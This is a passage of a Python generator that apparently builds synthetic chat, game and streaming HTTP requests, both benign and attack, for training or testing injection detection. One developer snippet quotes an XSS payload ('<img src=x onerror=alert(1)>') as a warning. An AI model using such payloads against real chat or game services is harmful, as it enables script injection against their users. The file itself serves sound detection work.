    "React warns about this, use textContent not innerHTML:\n```js\nel.innerHTML = msg; // XSS if msg is '<img src=x onerror=alert(1)>'\nel.textContent = msg; // safe\n```",
    "here's the transcoding command we use for the VOD ladder:\n```\nffmpeg -i input.mp4 -c:v libx264 -preset veryfast -g 48 -sc_threshold 0 \\\n  -map 0:v -map 0:a -b:v:0 3000k -s:v:0 1280x720 -hls_time 4 -hls_playlist_type vod \\\n  -hls_segment_filename 'out/720p_%03d.ts' out/720p.m3u8\n```",
    "python side of the bot:\n```python\nimport subprocess\nresult = subprocess.run([\"ffprobe\", \"-v\", \"error\", \"-show_format\", path], capture_output=True, check=True)\nprint(result.stdout.decode())\n```",
    "mongo query for the admin page:\n```js\ndb.players.find({ score: { $gt: 1000 }, banned: { $ne: true } }).sort({ score: -1 }).limit(50)\n```",
    "the Jinja template for the notification email:\n```jinja\n{% for match in matches %}\n  <li>{{ match.map }} — {{ match.result | upper }}</li>\n{% endfor %}\n```",
    "helm values gotcha: `{{ .Values.image.tag | default .Chart.AppVersion }}` needs quotes in YAML",
    "nginx config for websockets:\n```nginx\nlocation /socket.io/ {\n    proxy_pass http://127.0.0.1:3000;\n    proxy_http_version 1.1;\n    proxy_set_header Upgrade $http_upgrade;\n    proxy_set_header Connection \"upgrade\";\n}\n```",
    "stack trace from the game server:\n```\njava.lang.NullPointerException: Cannot invoke \"com.example.game.Player.getInventory()\" because \"p\" is null\n    at com.example.game.TradeService.accept(TradeService.java:118)\n    at com.example.game.net.Handler.dispatch(Handler.java:77)\n```",
    "Dockerfile for the dedicated server:\n```dockerfile\nFROM debian:12-slim\nRUN apt-get update && apt-get install -y lib32gcc-s1 ca-certificates && rm -rf /var/lib/apt/lists/*\nCOPY --chown=steam:steam server/ /home/steam/server/\nCMD [\"./srcds_run\", \"-game\", \"csgo\", \"+map\", \"de_dust2\"]\n```",
    "the path is relative to the mods folder, e.g. `../shared/textures/rock_01.png` resolves to `/opt/game/shared/textures/rock_01.png`",
    "`SELECT count(*) FROM messages WHERE room_id = $1` is what pgbouncer shows as the hot query",
    "regex for the chat filter: `/\\b(f+r+e+e+\\s*v+b+u+c+k+s+)\\b/gi` — catches most of the spam",
    "the SDP munging trick:\n```js\nsdp = sdp.replace(/a=fmtp:111 (.*)/, 'a=fmtp:111 $1;stereo=1;maxaveragebitrate=510000');\n```",
    "you can test the SSE endpoint with `curl -N -H 'Accept: text/event-stream' https://api.example.com/events?channel=lobby`",
    "C# side (Unity):\n```csharp\nusing var req = UnityWebRequest.Post(url, json, \"application/json\");\nreq.SetRequestHeader(\"Authorization\", $\"Bearer {token}\");\nawait req.SendWebRequest();\n```",
    "Go handler:\n```go\nfunc (h *Hub) ServeWS(w http.ResponseWriter, r *http.Request) {\n\tconn, err := upgrader.Upgrade(w, r, nil)\n\tif err != nil { log.Printf(\"upgrade: %v\", err); return }\n\tdefer conn.Close()\n}\n```",
    "Rust version:\n```rust\nlet (ws, _) = tokio_tungstenite::connect_async(\"ws://127.0.0.1:9001/ws\").await?;\nlet (mut tx, mut rx) = ws.split();\n```",
    "PowerShell on the Windows build agent:\n```powershell\nGet-ChildItem -Path C:\\builds\\game -Recurse -Filter *.pak | Remove-Item -Force\n```",
    "cron for the nightly leaderboard reset: `0 4 * * 1 /usr/local/bin/reset-weekly --season current >> /var/log/reset.log 2>&1`",
    "the XML the old launcher expects:\n```xml\n<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest version=\"2\">\n  <file path=\"bin/game.exe\" sha256=\"9f86d0...\"/>\n</manifest>\n```",
    "lua for the mod API:\n```lua\nfunction on_player_join(player)\n  os.time()\n  server.broadcast(player.name .. \" joined\")\nend\n```",
    "GraphQL query I'm using:\n```graphql\nsubscription OnMessage($room: ID!) {\n  messageAdded(roomId: $room) { id body author { name avatarUrl } }\n}\n```",
    "the Redis command to inspect presence: `HGETALL presence:room:42` and `ZREVRANGE lb:season12 0 9 WITHSCORES`",
    "to get a shell in the pod: `kubectl exec -it chat-7d9f-abcde -- bash`, then `cat /proc/1/status`",
    "PHP legacy forum code that we must replace:\n```php\n$stmt = $pdo->prepare('SELECT * FROM posts WHERE topic_id = ?');\n$stmt->execute([$_GET['t']]);\necho htmlspecialchars($row['body'], ENT_QUOTES);\n```",
    "the Makefile target: `deploy: ; rsync -avz --delete build/ deploy@game-01:/srv/www/`",
    "twig snippet: `{{ player.name|e }}` escapes, `{{ player.bio|raw }}` does not",
    "ERB in the mailer: `<%= link_to 'Join match', match_url(@match) %>`",
    "k8s probe: `livenessProbe: { httpGet: { path: /healthz, port: 8080 } }`",
    "env var for the relay: `TURN_URIS=turn:turn.example.com:3478?transport=udp,turns:turn.example.com:5349`",
    "fixed the TS type:\n```ts\ntype Patch = { op: 'add' | 'remove' | 'replace'; path: string; value?: unknown };\nconst apply = (doc: State, p: Patch[]) => jsonpatch.applyPatch(doc, p, true).newDocument;\n```",
    "the systemd unit:\n```ini\n[Service]\nExecStart=/opt/relay/bin/relay --config /etc/relay/config.toml\nRestart=on-failure\n```",
    "note: Windows paths in the asset manifest look like `..\\\\assets\\\\ui\\\\icons\\\\sword.png`, normalise them",
    "awk one-liner for the match logs: `awk -F, '$3 > 1000 {print $1, $3}' matches.csv | sort -k2 -nr | head`",
    "```sql\n-- weekly top 10 with ties\nSELECT name, score, RANK() OVER (ORDER BY score DESC) AS r FROM weekly WHERE r <= 10;\n```",
    "the Log4j config we ship (pattern layout only, lookups disabled):\n```xml\n<PatternLayout pattern=\"%d{ISO8601} [%t] %-5level %logger{36} - %msg%n\"/>\n```",
    "the ShareDB middleware:\n```js\nbackend.use('submit', (ctx, next) => { if (!ctx.agent.custom.userId) return next(new Error('unauthorized')); next(); });\n```",
    "bash loop to resend stuck pushes: `for id in $(cat failed.txt); do curl -X POST \"http://localhost:9000/push/$id/retry\"; done`",
]

DEV_SHORT = [
    "`ORDER BY created_at DESC LIMIT 50` is what the history endpoint does",
    "it's `SELECT 1` for the health check, nothing fancy",
    "use `<br>` instead of `\\n` in that field, the renderer is HTML",
    "`chmod +x ./start.sh && ./start.sh --port 27015` then it works",
    "the wiki says `/etc/hosts` on the box maps `game-db` to the replica",
    "`npm run build && node dist/server.js` — make sure NODE_ENV=production",
    "try `ws://localhost:3000/socket.io/?EIO=4&transport=websocket` in Postman",
    "`{{ user.name }}` doesn't render in the push title, only in the body",
]


# =========================================================================
# hosts and ids
# =========================================================================
H_CHAT = ["chat.example.com", "app.chat.example.com", "community.example.org", "talk.example.net"]
H_GAME = ["api.starfall.example.com", "play.example.net", "game-api.example.org", "backend.arena.example.com"]
H_MATRIX = ["matrix.example.org", "synapse.example.com", "chat.example.net"]
H_MM = ["mattermost.example.com", "mm.example.org"]
H_RC = ["rocket.example.com", "open.rocketchat.example.org"]
H_FORUM = ["forum.example.com", "discuss.example.org"]
H_LIVE = ["live.example.com", "stream.example.net", "tv.example.org"]
H_CDN = ["cdn.live.example.com", "edge.stream.example.net", "vod.example.org"]
H_DOCS = ["docs.collab.example.com", "pad.example.org", "whiteboard.example.net"]
H_ADMIN = ["admin.starfall.example.com", "panel.gamehost.example.net", "ops.example.org"]
H_RT = ["realtime.example.com", "rt.example.net", "push.example.org"]
H_SUPA = ["xyzcompanyabcd.supabase.example.co", "db.example.com"]
H_FB = ["starfall-chat-default-rtdb.example.com", "game-presence.example.net"]


def room_id(server=None):
    return "!%s:%s" % (alnum(18, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"), server or pick(H_MATRIX))


def mx_user(name=None, server=None):
    return "@%s:%s" % (name or pick(["alice", "bob", "carol", "dmitri", "yuki", "ana.lopez", "sam_01"]),
                        server or pick(H_MATRIX))


def mx_txn():
    return "m%d.%d" % (ts_ms(), R.randint(0, 40))


def mm_id():
    return alnum(26, "abcdefghijklmnopqrstuvwxyz0123456789")


def rc_id():
    return alnum(17, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789")


def yeast():
    return alnum(7, B64U)


def discord_token():
    return "%s.%s.%s" % (b64url(snowflake()), alnum(6, B64U), alnum(38, B64U))


def super_props():
    return b64(J({"os": pick(["Windows", "Mac OS X", "Linux"]), "browser": "Discord Client", "release_channel": "stable",
                  "client_version": "1.0.9152", "os_version": "10.0.22631", "system_locale": pick(["en-US", "de", "ja", "pt-BR"]),
                  "client_build_number": R.randint(280000, 320000), "client_event_source": None}))


def utf16len(s):
    return len(s.encode("utf-16-le")) // 2


# =========================================================================
# carriers: requests that put one piece of user text where the app uses it.
# Each takes (kind, cat, value); benign traffic and attacks share them, so an
# attack differs from the ordinary request only in the value it carries.
# =========================================================================
# ---------------------------------------------------------------- messages
def c_socketio(kind, cat, text):
    host = pick(H_CHAT + H_GAME)
    sid = sid_engineio()
    event = pick(["chat message", "message", "chat:send", "room:message", "msg"])
    payload = {"room": pick(["lobby", "general", "eu-1", "match-" + digits(6), "guild:" + lower(8)]), "text": text}
    if chance(0.5):
        payload["nonce"] = uid()
    if chance(0.4):
        payload["ts"] = ts_ms()
    eio = 4 if chance(0.8) else 3
    ns = pick(["", "", "/chat,", "/game,"])
    ack = pick(["", "", str(R.randint(1, 40))])
    pkt = "42" + ns + ack + J([event, payload])
    if eio == 4:
        body = pkt if chance(0.7) else "3\x1e" + pkt  # a pong ahead of the message
    else:
        body = "%d:%s" % (utf16len(pkt), pkt)
    uri = "/socket.io/?EIO=%d&transport=polling&t=%s&sid=%s" % (eio, yeast(), sid)
    h = web(host, accept="*/*", cookie_extra=["io=" + sid] if chance(0.5) else None)
    emit(kind, cat, "socketio", "POST", uri, h, body, "text/plain;charset=UTF-8")


def c_socketio_jsonp(kind, cat, text):
    host = pick(H_CHAT)
    sid = sid_engineio()
    pkt = "42" + J(["chat message", text])
    data = "%d:%s" % (utf16len(pkt), pkt)
    uri = "/socket.io/?EIO=3&transport=polling&j=%d&t=%s&sid=%s" % (R.randint(0, 3), yeast(), sid)
    h = web(host, accept="*/*", origin=False)
    emit(kind, cat, "socketio", "POST", uri, h, "d=" + q(data.replace("\n", "\\n")),
         "application/x-www-form-urlencoded")


def c_signalr(kind, cat, text):
    host = pick(H_CHAT + H_GAME)
    hub = pick(["/hubs/chat", "/chathub", "/hub/game", "/signalr/lobby"])
    user = pick(NICKS)
    inv = {"type": 1, "target": pick(["SendMessage", "SendToGroup", "Broadcast"]),
           "arguments": [user, text] if chance(0.6) else [pick(["lobby", "team-red"]), user, text]}
    if chance(0.6):
        inv["invocationId"] = str(R.randint(0, 60))
    body = J(inv) + "\x1e"
    uri = "%s?id=%s" % (hub, alnum(22, B64U))
    h = web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"],
                                       ["X-SignalR-User-Agent", "Microsoft SignalR/8.0 (8.0.7; Unknown OS; Browser; Unknown Runtime Version)"]],
            auth=bearer() if chance(0.5) else None)
    emit(kind, cat, "signalr", "POST", uri, h, body, "text/plain;charset=UTF-8")


def c_matrix(kind, cat, text, html=None):
    host = pick(H_MATRIX)
    rid = room_id(host)
    content = {"msgtype": pick(["m.text", "m.text", "m.text", "m.notice", "m.emote"]), "body": text}
    if html is not None:
        content["format"] = "org.matrix.custom.html"
        content["formatted_body"] = html
    if chance(0.2):
        content["m.mentions"] = {"user_ids": [mx_user(server=host)]}
    uri = "/_matrix/client/v3/rooms/%s/send/m.room.message/%s" % (q(rid), mx_txn())
    if chance(0.5):
        h = native(host, ua=pick(MOBILE_UAS[4:7] + DESKTOP_UAS[2:3]), auth="Bearer syt_" + alnum(32) + "_" + alnum(20) + "_" + alnum(6))
    else:
        h = web(host, origin="app.element.example.org", referer="https://app.element.example.org/",
                auth="Bearer syt_" + alnum(40), cookie=False)
    emit(kind, cat, "matrix", "PUT", uri, h, J(content), "application/json")


def c_matrix_html(kind, cat, html):
    plain = html if kind != "attack" else "see formatted"
    c_matrix(kind, cat, plain, html=html)


def c_mattermost(kind, cat, text):
    host = pick(H_MM)
    body = {"file_ids": [], "message": text, "props": {"disable_group_highlight": True}, "channel_id": mm_id(),
            "pending_post_id": "%s:%d" % (mm_id(), ts_ms()), "create_at": 0, "metadata": {}, "reply_count": 0}
    if chance(0.3):
        body["root_id"] = mm_id()
    tok = mm_id()
    h = web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", mm_id()]],
            cookie_extra=["MMAUTHTOKEN=" + tok, "MMUSERID=" + mm_id(), "MMCSRF=" + mm_id()])
    emit(kind, cat, "mattermost", "POST", "/api/v4/posts", h, J(body), "application/json")


def c_rocketchat(kind, cat, text):
    host = pick(H_RC)
    body = {"message": {"rid": pick(["GENERAL", rc_id()]), "msg": text}}
    if chance(0.3):
        body["message"]["tmid"] = rc_id()
    h = native(host, ua=pick(MOBILE_UAS[8:9] + ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Rocket.Chat/4.0.3 Chrome/124.0.6367.243 Electron/30.1.2 Safari/537.36"]),
               extra=[["X-Auth-Token", alnum(43, B64U)], ["X-User-Id", rc_id()]])
    emit(kind, cat, "rocketchat", "POST", "/api/v1/chat.sendMessage", h, J(body), "application/json")


def c_rocketchat_ddp(kind, cat, text):
    host = pick(H_RC)
    inner = {"msg": "method", "method": "sendMessage",
             "params": [{"_id": rc_id(), "rid": pick(["GENERAL", rc_id() + rc_id()]), "msg": text}], "id": str(R.randint(5, 90))}
    body = J([J(inner)])
    uri = "/sockjs/%d/%s/xhr_send" % (R.randint(100, 999), lower(8))
    h = web(host, accept="*/*")
    emit(kind, cat, "rocketchat", "POST", uri, h, body, "text/plain;charset=UTF-8")


def c_discord(kind, cat, text):
    host = pick(["chat.example.com", "app.guilds.example.net"])
    body = {"mobile_network_type": "unknown", "content": text, "nonce": snowflake(), "tts": False, "flags": 0}
    uri = "/api/v10/channels/%s/messages" % snowflake()
    h = native(host, ua=pick(DESKTOP_UAS[:1]), accept="*/*", auth=discord_token(),
               extra=[["X-Super-Properties", super_props()], ["X-Discord-Locale", pick(["en-US", "de", "ja", "pt-BR", "fr"])],
                      ["X-Discord-Timezone", pick(["Europe/Berlin", "America/New_York", "Asia/Tokyo", "America/Sao_Paulo"])],
                      ["X-Debug-Options", "bugReporterEnabled"], ["Origin", "https://" + host],
                      ["Referer", "https://%s/channels/%s/%s" % (host, snowflake(), snowflake())]])
    emit(kind, cat, "discord", "POST", uri, h, J(body), "application/json")


def c_discord_embed(kind, cat, url, title=None):
    host = pick(["chat.example.com", "app.guilds.example.net"])
    emb = {"title": title or pick(["Patch notes", "Match result", "New clip", "Stream is live!"]),
           "url": url, "color": R.randint(0, 0xFFFFFF), "description": pick(CHAT)}
    if chance(0.5):
        emb["thumbnail"] = {"url": "https://cdn.example.com/thumbs/%s.png" % hexs(12)}
    body = {"content": "", "embeds": [emb], "username": pick(["Patch Bot", "Match Bot", "StreamAlerts"])}
    uri = "/api/webhooks/%s/%s" % (snowflake(), alnum(68, B64U))
    h = native(host, ua=pick(SERVER_UAS))
    emit(kind, cat, "discord", "POST", uri, h, J(body), "application/json")


def c_slack(kind, cat, text):
    host = pick(["slack.example.com", "workspace.example.net"])
    pairs = [("channel", "C0" + alnum(9, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")), ("text", text)]
    if chance(0.4):
        pairs.append(("blocks", J([{"type": "section", "text": {"type": "mrkdwn", "text": text}}])))
    if chance(0.3):
        pairs.append(("thread_ts", "%d.%06d" % (ts(), R.randint(0, 999999))))
    h = native(host, ua=pick(SERVER_UAS[:3] + ["Slackbot 1.0 (+https://api.slack.com/robots)"]),
               auth="Bearer xoxb-%s-%s-%s" % (digits(12), digits(13), alnum(24)))
    emit(kind, cat, "slack", "POST", "/api/chat.postMessage", h, form(pairs),
         "application/x-www-form-urlencoded; charset=utf-8")


def c_discourse(kind, cat, text):
    host = pick(H_FORUM)
    pairs = [("raw", text), ("unlist_topic", "false"), ("topic_id", digits(4)), ("is_warning", "false"),
             ("archetype", "regular"), ("typing_duration_msecs", str(R.randint(1500, 90000))),
             ("composer_open_duration_msecs", str(R.randint(3000, 200000))), ("nested_post", "true")]
    if chance(0.4):
        pairs.insert(4, ("reply_to_post_number", str(R.randint(1, 80))))
    h = web(host, accept="*/*", extra=[["X-CSRF-Token", alnum(86, B64U)], ["X-Requested-With", "XMLHttpRequest"],
                                       ["Discourse-Logged-In", "true"], ["Discourse-Present", "true"]],
            cookie_extra=["_t=" + alnum(160, B64U), "_forum_session=" + alnum(200, B64U)])
    emit(kind, cat, "discourse", "POST", "/posts", h, form(pairs), "application/x-www-form-urlencoded; charset=UTF-8")


def c_htmx(kind, cat, text):
    host = pick(H_CHAT + H_FORUM)
    room = digits(3)
    h = web(host, accept="*/*", referer="https://%s/rooms/%s" % (host, room),
            extra=[["HX-Request", "true"], ["HX-Trigger", pick(["send-btn", "message-form", "composer"])],
                   ["HX-Target", pick(["chat-log", "messages", "thread"])],
                   ["HX-Current-URL", "https://%s/rooms/%s" % (host, room)]])
    pairs = [("message", text)]
    if chance(0.5):
        pairs.insert(0, ("csrf_token", alnum(43, B64U)))
    emit(kind, cat, "htmx", "POST", "/rooms/%s/messages" % room, h, form(pairs), "application/x-www-form-urlencoded")


def c_turbo(kind, cat, text):
    host = pick(H_CHAT + H_FORUM)
    room = digits(2)
    h = web(host, accept="text/vnd.turbo-stream.html, text/html, application/xhtml+xml",
            referer="https://%s/rooms/%s" % (host, room),
            extra=[["X-CSRF-Token", alnum(86, B64U)]] + ([["Turbo-Frame", "new_message"]] if chance(0.4) else []))
    pairs = [("authenticity_token", alnum(86, B64U)), ("message[content]", text), ("commit", "Send")]
    emit(kind, cat, "turbo", "POST", "/rooms/%s/messages" % room, h, form(pairs),
         "application/x-www-form-urlencoded;charset=UTF-8")


def c_liveview(kind, cat, text):
    host = pick(H_CHAT + H_DOCS)
    topic = "lv:phx-F" + alnum(15, B64U)
    field = pick(["message[body]", "chat[text]", "comment[content]"])
    val = form([(field, text), ("_target", field)])
    msgs = [J(["4", str(R.randint(5, 300)), topic, "event",
               {"type": "form", "event": pick(["send", "save", "submit"]), "value": val,
                "meta": {"_target": field}}])]
    if chance(0.3):
        msgs.insert(0, J([None, str(R.randint(5, 300)), "phoenix", "heartbeat", {}]))
    uri = "/live/longpoll?_csrf_token=%s&_track_static%%5B0%%5D=https%%3A%%2F%%2F%s%%2Fassets%%2Fapp.css&_mounts=0&_live_referer=undefined&vsn=2.0.0&token=%s" % (
        alnum(40, B64U), host, alnum(56, B64U))
    h = web(host, accept="*/*", cookie_extra=["_app_key=" + alnum(150, B64U)])
    emit(kind, cat, "liveview", "POST", uri, h, "\n".join(msgs), "application/x-ndjson")


def c_graphql(kind, cat, text):
    host = pick(H_CHAT + H_GAME)
    body = {"operationName": "SendMessage", "variables": {"roomId": uid() if chance(0.5) else digits(5), "body": text},
            "query": "mutation SendMessage($roomId: ID!, $body: String!) {\n  sendMessage(roomId: $roomId, body: $body) {\n    id\n    createdAt\n    __typename\n  }\n}"}
    h = web(host, accept="application/graphql-response+json, application/json", auth=bearer(),
            extra=[["apollographql-client-name", "web"], ["apollographql-client-version", "3.%d.%d" % (R.randint(0, 12), R.randint(0, 20))]])
    emit(kind, cat, "graphql", "POST", "/graphql", h, J(body), "application/json")


def c_connect(kind, cat, text):
    host = pick(H_CHAT + H_GAME)
    body = {"roomId": lower(10), "text": text, "clientMsgId": uid()}
    h = web(host, accept="application/json", auth=bearer(),
            extra=[["Connect-Protocol-Version", "1"], ["Connect-Timeout-Ms", pick(["10000", "15000", "30000"])]])
    emit(kind, cat, "connect", "POST", "/chat.v1.ChatService/SendMessage", h, J(body), "application/json")


def c_grpcweb(kind, cat, text):
    host = pick(H_CHAT + H_GAME)
    msg = pb_str(1, lower(10)) + pb_str(2, text) + pb_int(3, ts())
    text_mode = chance(0.3)
    ua, _, _ = browser()
    hs = [["Host", host], ["Content-Type", "application/grpc-web-text" if text_mode else "application/grpc-web+proto"],
          ["X-Grpc-Web", "1"], ["X-User-Agent", "grpc-web-javascript/0.1"], ["Accept", "application/grpc-web-text" if text_mode else "*/*"],
          ["Authorization", bearer()], ["User-Agent", ua], ["Origin", "https://" + host],
          ["Accept-Language", pick(LANGS)]]
    frame = grpc_frame(msg)
    body = base64.b64encode(frame) if text_mode else frame
    svc = pick(["/chat.v1.ChatService/SendMessage", "/game.chat.v2.Chat/Post", "/lobby.v1.Lobby/Say"])
    emit_raw(kind, cat, "grpcweb", raw_request("POST", svc, hs, body))


def c_firebase(kind, cat, text):
    host = pick(H_FB)
    body = {"uid": alnum(28), "name": pick(NICKS), "text": text, "ts": {".sv": "timestamp"}}
    uri = "/rooms/%s/messages.json?auth=%s" % (pick(["lobby", "general", "-N" + alnum(18, B64U)]), jwt())
    h = web(host, accept="*/*", origin="app.example.com", cookie=False)
    emit(kind, cat, "firebase", "POST", uri, h, J(body), "text/plain;charset=UTF-8")


def c_supabase(kind, cat, text):
    host = pick(H_SUPA)
    body = {"room_id": R.randint(1, 400), "content": text, "user_id": uid()}
    key = jwt({"iss": "supabase", "ref": lower(20), "role": "anon", "iat": ts(), "exp": ts() + 10 ** 8})
    h = web(host, accept="application/json", origin="app.example.com", cookie=False, auth="Bearer " + jwt(),
            extra=[["apikey", key], ["Prefer", "return=representation"], ["X-Client-Info", "supabase-js-web/2.45.4"],
                   ["Content-Profile", "public"]])
    emit(kind, cat, "supabase", "POST", "/rest/v1/messages?select=*", h, J(body), "application/json")


def c_twitch_chat(kind, cat, text):
    host = pick(H_LIVE)
    body = {"broadcaster_id": digits(9), "sender_id": digits(9), "message": text}
    h = native(host, ua=pick(SERVER_UAS), auth="Bearer " + lower(30),
               extra=[["Client-Id", lower(30)]])
    emit(kind, cat, "twitch", "POST", "/helix/chat/messages", h, J(body), "application/json")


def c_nakama(kind, cat, text):
    host = pick(H_GAME)
    inner = J({"group_id": uid(), "content": {"text": text, "sent": ts_ms()}})
    uri = "/v2/rpc/%s?unwrap" % pick(["guild_post", "send_clan_message", "party_chat"]) if chance(0.5) else \
        "/v2/rpc/%s" % pick(["guild_post", "send_clan_message"])
    body = inner if uri.endswith("unwrap") else J(inner)
    h = native(host, ua=pick(GAME_UAS[6:7] + GAME_UAS[:2]), auth=bearer())
    emit(kind, cat, "nakama", "POST", uri, h, body, "application/json")


def c_jsonpatch(kind, cat, text):
    host = pick(H_DOCS)
    ops = [{"op": "replace", "path": "/blocks/%d/text" % R.randint(0, 40), "value": text}]
    if chance(0.4):
        ops.append({"op": "replace", "path": "/updatedAt", "value": iso()})
    h = web(host, accept="application/json", auth=bearer() if chance(0.5) else None,
            extra=[["If-Match", '"%s"' % hexs(16)]])
    emit(kind, cat, "collab", "PATCH", "/api/docs/%s" % uid(), h, J(ops), "application/json-patch+json")


def c_quill(kind, cat, text):
    host = pick(H_DOCS)
    ops = [{"retain": R.randint(0, 900)}, {"insert": text}]
    if chance(0.5):
        ops.append({"insert": "\n", "attributes": {"list": "bullet"}})
    body = {"docId": uid(), "v": R.randint(1, 5000), "delta": {"ops": ops}, "src": alnum(12)}
    h = web(host, accept="application/json")
    emit(kind, cat, "collab", "POST", "/api/notes/%s/deltas" % lower(12), h, J(body), "application/json")


def c_mercure_publish(kind, cat, text):
    host = pick(H_RT)
    data = J({"@id": "/messages/%s" % digits(6), "author": pick(NICKS), "text": text})
    pairs = [("topic", "https://%s/rooms/%s" % (pick(H_CHAT), digits(3))), ("data", data)]
    if chance(0.4):
        pairs.append(("private", "on"))
    h = native(host, ua=pick(SERVER_UAS), auth="Bearer " + jwt({"mercure": {"publish": ["*"]}}))
    emit(kind, cat, "mercure", "POST", "/.well-known/mercure", h, form(pairs), "application/x-www-form-urlencoded")


def c_ws_query(kind, cat, text):
    """A WebSocket handshake whose query carries a value the server reads (nickname, room)."""
    host = pick(H_GAME + H_CHAT)
    key = b64(rbytes(16))
    path = pick(["/ws", "/ws/lobby", "/game/socket", "/realtime"])
    param = pick(["name", "nick", "room", "displayName"])
    uri = "%s?%s=%s&v=%d" % (path, param, qb(text), R.randint(1, 4))
    ua, fam, major = browser()
    h = [["Host", host], ["Connection", "Upgrade"], ["Pragma", "no-cache"], ["Cache-Control", "no-cache"],
         ["User-Agent", ua], ["Upgrade", "websocket"], ["Origin", "https://" + host],
         ["Sec-WebSocket-Version", "13"], ["Accept-Encoding", "gzip, deflate, br"],
         ["Accept-Language", pick(LANGS)], ["Sec-WebSocket-Key", key],
         ["Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"]]
    emit(kind, cat, "websocket", "GET", uri, h)


def c_sse_query(kind, cat, text):
    host = pick(H_RT + H_CHAT)
    param = pick(["channel", "topic", "room"])
    uri = "/events?%s=%s&since=%d" % (param, qb(text), ts())
    h = web(host, accept="text/event-stream", origin=False,
            extra=[["Cache-Control", "no-cache"]] + ([["Last-Event-ID", str(R.randint(1000, 999999))]] if chance(0.4) else []))
    emit(kind, cat, "sse", "GET", uri, h)


# ------------------------------------------------------------ profile text
def _profile_put(kind, cat, app, host, method, uri, body, hdrs=None):
    h = hdrs or (web(host, accept="application/json", auth=bearer()) if chance(0.5)
                 else native(host, auth=bearer()))
    emit(kind, cat, app, method, uri, h, J(body), "application/json")


def c_nick(kind, cat, text):
    host = pick(H_GAME)
    _profile_put(kind, cat, "profile", host, "PATCH", "/api/v1/players/me", {"displayName": text})


def c_clan(kind, cat, text):
    host = pick(H_GAME)
    _profile_put(kind, cat, "clans", host, "POST", "/api/v1/clans",
                 {"name": text, "tag": alnum(R.randint(2, 4), "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
                  "description": pick(BIOS), "region": pick(["eu", "na", "sa", "asia", "oce"]), "joinPolicy": pick(["open", "request", "invite"])})


def c_bio(kind, cat, text):
    host = pick(H_GAME + H_CHAT)
    _profile_put(kind, cat, "profile", host, "PUT", "/api/profile",
                 {"bio": text, "pronouns": pick(["", "she/her", "he/him", "they/them"]), "country": pick(["DE", "JP", "BR", "US", "KR", "FR"])})


def c_stream_title(kind, cat, text):
    host = pick(H_LIVE)
    h = native(host, ua=pick(["OBS-Studio/30.1.2 (Windows)", "streamlabs-desktop/1.16.2"] + SERVER_UAS[:2]),
               auth="Bearer " + lower(30), extra=[["Client-Id", lower(30)]])
    emit(kind, cat, "twitch", "PATCH", "/helix/channels?broadcaster_id=%s" % digits(9), h,
         J({"title": text, "game_id": digits(6), "tags": ["English", pick(["Speedrun", "Chill", "Competitive"])]}),
         "application/json")


def c_presence(kind, cat, text):
    host = pick(H_CHAT + H_RT)
    _profile_put(kind, cat, "presence", host, "PUT", "/api/v1/presence",
                 {"status": pick(["online", "idle", "dnd"]), "custom_status": {"text": text, "emoji": pick(["🎮", "📅", "🍕", "🎧", ""]),
                                                                                "expires_at": iso() if chance(0.5) else None}})


def c_mm_status(kind, cat, text):
    host = pick(H_MM)
    h = web(host, accept="*/*", extra=[["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", mm_id()]],
            cookie_extra=["MMAUTHTOKEN=" + mm_id(), "MMCSRF=" + mm_id()])
    emit(kind, cat, "mattermost", "PUT", "/api/v4/users/me/status/custom", h,
         J({"emoji": pick(["calendar", "house", "palm_tree", "headphones"]), "text": text, "duration": pick(["today", "one_hour", "this_week"])}),
         "application/json")


def c_matrix_displayname(kind, cat, text):
    host = pick(H_MATRIX)
    h = native(host, ua=pick(MOBILE_UAS[4:7]), auth="Bearer syt_" + alnum(40))
    emit(kind, cat, "matrix", "PUT", "/_matrix/client/v3/profile/%s/displayname" % q(mx_user(server=host)), h,
         J({"displayname": text}), "application/json")


def c_lobby(kind, cat, text):
    host = pick(H_GAME)
    h = native(host, auth=bearer())
    emit(kind, cat, "lobby", "POST", "/api/v1/lobbies", h,
         J({"name": text, "mode": pick(["ranked_2v2", "casual_5v5", "coop_raid", "ffa"]), "maxPlayers": pick([2, 4, 8, 10, 16]),
            "private": chance(0.3), "region": pick(["eu-west", "us-east", "ap-northeast", "sa-east"]), "map": pick(["harbor", "foundry", "citadel"])}),
         "application/json")


def c_playfab_name(kind, cat, text):
    host = "%s.playfabapi.example.com" % hexs(5).upper()
    h = native(host, ua=pick(GAME_UAS[7:8] + GAME_UAS[:2]),
               extra=[["X-Authorization", "%s-%s-%s-%s--%s" % (hexs(16).upper(), hexs(16).upper(), hexs(4).upper(), hexs(8).upper(), b64(rbytes(30)))],
                      ["X-PlayFabSDK", "UnitySDK-2.183.240315"], ["X-ReportErrorAsSuccess", "true"]])
    emit(kind, cat, "playfab", "POST", "/Client/UpdateUserTitleDisplayName?sdk=UnitySDK-2.183.240315", h,
         J({"DisplayName": text}), "application/json")


def c_forum_signature(kind, cat, text):
    host = pick(H_FORUM)
    h = web(host, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", mode="navigate", dest="document",
            referer="https://%s/ucp.php?i=ucp_profile&mode=signature" % host)
    emit(kind, cat, "forum", "POST", "/ucp.php?i=ucp_profile&mode=signature", h,
         form([("signature", text), ("creation_time", str(ts())), ("form_token", hexs(40)), ("submit", "Submit")]),
         "application/x-www-form-urlencoded")


MSG_CARRIERS = [c_socketio, c_socketio, c_socketio_jsonp, c_signalr, c_matrix, c_mattermost, c_rocketchat,
                c_rocketchat_ddp, c_discord, c_slack, c_discourse, c_htmx, c_turbo, c_liveview, c_graphql,
                c_connect, c_grpcweb, c_firebase, c_supabase, c_twitch_chat, c_nakama, c_jsonpatch, c_quill,
                c_mercure_publish]
NAME_CARRIERS = [c_nick, c_clan, c_bio, c_stream_title, c_presence, c_mm_status, c_matrix_displayname,
                 c_lobby, c_playfab_name, c_forum_signature, c_ws_query]


# -------------------------------------------------------- filters and sorts
